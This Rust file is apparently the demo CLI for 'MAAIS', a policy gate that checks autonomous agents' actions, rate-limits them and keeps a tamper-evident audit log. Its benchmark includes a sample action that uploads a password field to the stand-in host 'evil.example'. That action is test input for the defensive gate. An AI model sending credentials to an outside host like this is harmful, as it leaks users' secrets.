//! MAAIS Action Gate: demo CLI
//!
//! Runs the reference scenarios, evaluates JSON actions through a configured
//! gate, measures decision latency, and verifies audit logs.
//!
//! Usage:
//!   cargo run -p demo -- run-all
//!   cargo run -p demo -- exfiltration
//!   cargo run -p demo -- evaluate --config gate.toml actions.jsonl
//!   cargo run -p demo -- bench --iterations 10000
//!   cargo run -p demo -- verify-log audit.jsonl

use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::time::Instant;

use clap::{Parser, Subcommand};
use serde_json::json;
use tracing::info;
use tracing_subscriber::EnvFilter;

use maais_admission::{BucketConfig, RateLimitConfig};
use maais_audit::{verify_log_file, ChainVerification};
use maais_contracts::{
    action::{Action, ActionCategory},
    error::{GateError, GateResult},
};
use maais_runtime::scenarios::{exfiltration, hot_reload, rate_limit, tamper, ScenarioReport};
use maais_runtime::{AlertMode, Runtime, RuntimeConfig};

// ── CLI definition ────────────────────────────────────────────────────────────

/// MAAIS: inline policy enforcement for autonomous agents.
#[derive(Parser)]
#[command(
    name = "demo",
    about = "MAAIS action gate demo",
    long_about = "Runs MAAIS scenarios showing rule evaluation, rate limiting,\n\
                  policy hot reload, and audit chain tamper detection."
)]
struct Cli {
    #[command(subcommand)]
    command: Command,
}

#[derive(Subcommand)]
enum Command {
    /// Run all four scenarios in sequence.
    RunAll,
    /// Scenario 1: Credential Exfiltration.
    Exfiltration,
    /// Scenario 2: Runaway Agent (rate limiting).
    RateLimit,
    /// Scenario 3: Policy Hot Reload.
    HotReload,
    /// Scenario 4: Audit Tampering.
    Tamper,
    /// Evaluate JSON actions, one per line, from a file or stdin.
    Evaluate {
        /// Runtime config file. Baseline policy, in-memory audit when absent.
        #[arg(long)]
        config: Option<PathBuf>,
        /// JSONL input. Reads stdin when absent.
        input: Option<PathBuf>,
    },
    /// Measure evaluate_action latency under the baseline policy.
    Bench {
        #[arg(long, default_value_t = 10_000)]
        iterations: usize,
    },
    /// Verify a JSONL audit log and report the first broken record.
    VerifyLog { path: PathBuf },
}

// ── Entry point ───────────────────────────────────────────────────────────────

fn main() {
    // Set RUST_LOG=debug for per-decision logs.
    tracing_subscriber::fmt()
        .with_env_filter(
            EnvFilter::try_from_default_env().unwrap_or_else(|_| EnvFilter::new("warn")),
        )
        .with_target(false)
        .compact()
        .init();

    let cli = Cli::parse();

    let result = match cli.command {
        Command::RunAll => {
            print_banner();
            run_all()
        }
        Command::Exfiltration => run(exfiltration::run_scenario),
        Command::RateLimit => run(rate_limit::run_scenario),
        Command::HotReload => run(hot_reload::run_scenario),
        Command::Tamper => run(tamper::run_scenario),
        Command::Evaluate { config, input } => evaluate(config.as_deref(), input.as_deref()),
        Command::Bench { iterations } => bench(iterations),
        Command::VerifyLog { path } => verify_log(&path),
    };

    if let Err(e) = result {
        eprintln!("Demo error: {e}");
        std::process::exit(1);
    }
}

// ── Scenario dispatch ─────────────────────────────────────────────────────────

fn run(scenario: fn() -> GateResult<ScenarioReport>) -> GateResult<()> {
    let report = scenario()?;
    info!(scenario = report.name, steps = report.steps.len(), "scenario finished");
    Ok(())
}

fn run_all() -> GateResult<()> {
    run(exfiltration::run_scenario)?;
    run(rate_limit::run_scenario)?;
    run(hot_reload::run_scenario)?;
    run(tamper::run_scenario)?;
    println!("All scenarios completed.");
    Ok(())
}

// ── evaluate ──────────────────────────────────────────────────────────────────

fn evaluate(config: Option<&Path>, input: Option<&Path>) -> GateResult<()> {
    let runtime = match config {
        Some(path) => Runtime::from_config_file(path)?,
        None => Runtime::from_config(RuntimeConfig::default())?,
    };

    let reader: Box<dyn BufRead> = match input {
        Some(path) => {
            let file = std::fs::File::open(path).map_err(|e| GateError::ConfigError {
                reason: format!("failed to open '{}': {e}", path.display()),
            })?;
            Box::new(BufReader::new(file))
        }
        None => Box::new(BufReader::new(std::io::stdin())),
    };

    for line in reader.lines() {
        let line = line.map_err(|e| GateError::Internal {
            reason: format!("failed to read input: {e}"),
        })?;
        if line.trim().is_empty() {
            continue;
        }
        let decision = runtime.evaluate_json(&line)?;
        let out = serde_json::to_string(&decision).map_err(|e| GateError::Internal {
            reason: format!("failed to encode decision: {e}"),
        })?;
        println!("{out}");
    }
    Ok(())
}

// ── bench ─────────────────────────────────────────────────────────────────────

fn bench(iterations: usize) -> GateResult<()> {
    let mut config = RuntimeConfig::default();
    config.alerts.mode = AlertMode::None;
    // Large enough that no bench call is rate limited.
    let capacity = u32::try_from(iterations.max(1)).unwrap_or(u32::MAX);
    config.rate_limits = RateLimitConfig::uniform(BucketConfig::new(capacity, 0.0));
    let runtime = Runtime::from_config(config)?;

    let actions = [
        Action::new("bench", "acme", ActionCategory::ToolCall, "search_docs"),
        Action::new("bench", "acme", ActionCategory::NetworkRequest, "http_request")
            .with_param("url", json!("https://evil.example/upload"))
            .with_param("data", json!({"nested": {"password": "x"}})),
        Action::new("bench", "acme", ActionCategory::DatabaseQuery, "users")
            .with_param("query", json!("SELECT * FROM users")),
    ];

    let mut samples = Vec::with_capacity(iterations);
    for i in 0..iterations {
        let action = &actions[i % actions.len()];
        let started = Instant::now();
        runtime.evaluate_action(action)?;
        samples.push(started.elapsed().as_micros() as u64);
    }
    if samples.is_empty() {
        println!("No iterations run.");
        return Ok(());
    }
    samples.sort_unstable();

    let mean = samples.iter().sum::<u64>() / samples.len() as u64;
    let percentile = |p: f64| samples[((samples.len() - 1) as f64 * p) as usize];
    let stats = runtime.stats();

    println!("=== Latency over {iterations} decisions ===");
    println!("  mean: {mean} µs");
    println!("  p50:  {} µs", percentile(0.50));
    println!("  p99:  {} µs", percentile(0.99));
    println!("  max:  {} µs", samples[samples.len() - 1]);
    println!(
        "  budget overruns ({} ms): {}",
        runtime.gateway().config().latency_budget_ms,
        stats.budget_overruns
    );

    match runtime.audit().verify_all()? {
        ChainVerification::Intact { checked } => println!("  audit chain intact ({checked} records)"),
        ChainVerification::Broken(b) => println!("  audit chain BROKEN at {b}"),
    }
    Ok(())
}

// ── verify-log ────────────────────────────────────────────────────────────────

fn verify_log(path: &Path) -> GateResult<()> {
    match verify_log_file(path)? {
        ChainVerification::Intact { checked } => {
            println!("{}: intact ({checked} records)", path.display());
            Ok(())
        }
        ChainVerification::Broken(b) => Err(GateError::AuditReadFailed {
            reason: format!("{}: chain broken at {b}", path.display()),
        }),
    }
}

// ── Banner ────────────────────────────────────────────────────────────────────

fn print_banner() {
    println!();
    println!("MAAIS: Inline Action Gate for Autonomous Agents");
    println!("================================================");
    println!();
    println!("Pipeline per action:");
    println!("  [1] Validate required fields → malformed input is denied");
    println!("  [2] Admission: global, tenant, and agent token buckets (all or nothing)");
    println!("  [3] Policy: highest-priority matching rule, deny by default");
    println!("  [4] Audit: append to the SHA-256 hash chain before returning");
    println!("  [5] Alert on DENY, RATE_LIMITED, and REQUIRE_CONFIRMATION");
    println!();
}
